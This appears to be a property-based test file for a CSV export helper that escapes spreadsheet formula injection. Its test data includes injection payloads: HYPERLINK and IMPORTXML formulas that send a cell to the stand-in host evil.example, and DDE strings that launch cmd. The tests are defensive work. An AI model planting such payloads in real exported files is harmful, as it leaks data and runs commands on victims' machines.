import fc from 'fast-check';
import { asText, csvOf } from './csv.js';

/** What spreadsheets would run, from the lists that testers use. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("https://evil.example?x="&A1,"x")',
  '=IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\0=1+1',
  '\tx',
  '\rx',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '\u200b=1+1',
  '\u2060\u00ad=1+1',
  '\ufe661+1',
];

describe('a cell of a CSV', () => {
  it.each(FORMULAS)('is text where a spreadsheet would run it: %j', (formula) => {
    expect(asText(formula)).toBe(`'${formula}`);
  });

  it.each([
    ['x;=1+1', "x;'=1+1"],
    [';=1', ";'=1"],
    ['x\n=1+1', "x\n'=1+1"],
    ['x\t@SUM(1)', "x\t'@SUM(1)"],
    ["a|-2+3|' /C calc'", "a|'-2+3|'' /C calc'"],
    ["=cmd|' /C calc'!A0", "'=cmd|'' /C calc'!A0"],
    ['x; \u200b"=1', `x;' \u200b"=1`],
    ["x;'=1", "x;''=1"],
    ['{"why":"x;+1"}', `{"why":"x;'+1"}`],
    ['\t=1+1', "'\t'=1+1"],
    ['\r\n=1+1', "'\r\n'=1+1"],
    ['x;\n\t \u200b=1+1', "x;\n\t' \u200b=1+1"],
  ])('is text too where another program would begin a cell: %j', (text, told) => {
    expect(asText(text)).toBe(told);
  });

  it.each(['', 'lettre', 'a=b', '2026-11-22', '1', 'é', '{"a":"=1"}', 'it’s', '"'])(
    'is as it is where nothing runs: %j',
    (text) => {
      expect(asText(text)).toBe(text);
    },
  );

  it.each(['\t', '\n', '\r\n', ' ', ';', '| '])('is read once, also after many of %j', (blank) => {
    const told = asText(`;${blank.repeat(500_000)}=1`);
    expect(told.length).toBe(500_000 * blank.length + 4);
  });

  const signs = ['=', '+', '-', '@', '\uff1d', ';', '|', '\t', '\r', '\n', '\0'];
  const pieces = fc.constantFrom(...signs, ' ', '"', "'", ',', 'a', '\u200b', '\ufeff', '\u00ad');
  const hostile = fc.oneof(
    fc.array(pieces, { maxLength: 30 }).map((some) => some.join('')),
    fc.string({ unit: 'binary' }),
  );

  it('begins no formula wherever a program may cut the line, with or without regard to quotes', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 4 }), (cells) => {
        const line = csvOf([['1', ...cells]]);
        for (const piece of [...cells.map(asText), ...line.split(/[;|\t\r\n]/)])
          expect(piece).not.toMatch(
            /^[\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u,
          );
      }),
      { numRuns: 2_000 },
    );
  });

  it('gives back what it was when one apostrophe is taken from each beginning', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(asText(text).replace(/(^|[;|\t\r\n])'/gu, '$1')).toBe(text);
      }),
      { numRuns: 2_000 },
    );
  });
});
